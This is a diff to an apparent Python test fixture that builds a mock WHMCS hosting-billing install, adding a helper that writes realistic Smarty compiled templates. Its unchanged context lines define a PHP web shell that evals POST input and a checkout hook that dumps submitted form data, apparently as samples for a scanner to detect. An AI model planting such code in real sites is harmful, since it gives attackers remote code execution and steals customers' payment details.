@@ -24,6 +24,19 @@ WEB_SHELL = b"<?php if(isset($_POST['c'])){ eval($_POST['c']); } ?>\n"
 SKIMMER_HOOK = b"<?php add_hook('ShoppingCartCheckoutCompletePage', 1, function($v){ file_put_contents('/tmp/x', json_encode($_POST)); });\n"
 
 
+def smarty_compiled(name: str, body: str = "") -> str:
+    """A compiled template the way Smarty 3.1 writes one."""
+    return (
+        "<?php\n/* Smarty version 3.1.48, created on 2026-11-27 10:00:00\n"
+        f"  from '/var/www/whmcs/templates/six/{name}.tpl' */\n\n"
+        "/* @var Smarty_Internal_Template $_smarty_tpl */\n"
+        "if ($_smarty_tpl->_decodeProperties($_smarty_tpl, array ('version' => '3.1.48'), false)) {\n"
+        f"function content_{name}(Smarty_Internal_Template $_smarty_tpl) {{?>\n"
+        f"<html>{body}<?php echo $_smarty_tpl->tpl_vars['pagetitle']->value;?>\n"
+        "<?php }\n}\n"
+    )
+
+
 def write(path: Path, content: str | bytes, mode: int = 0o644) -> Path:
     path.parent.mkdir(parents=True, exist_ok=True)
     if isinstance(content, str):
@@ -54,7 +67,7 @@ def build_whmcs_tree(root: Path, *, extra_files: int = 0) -> Path:
         write(root / directory / ".htaccess", "Deny from all\n")
         write(root / directory / "index.php", "<?php header('Location: ../index.php');\n")
     write(root / "attachments/123456_invoice.pdf", b"%PDF-1.4 client upload\n")
-    write(root / "templates_c/0a1b2c3d4e5f_0.file.header.tpl.php", "<?php /* Smarty */\n")
+    write(root / "templates_c/0a1b2c3d4e5f_0.file.header.tpl.php", smarty_compiled("header"))
     for index in range(extra_files):
         directory = root / f"vendor/pkg{index // 500}/src"
         if index % 500 == 0:
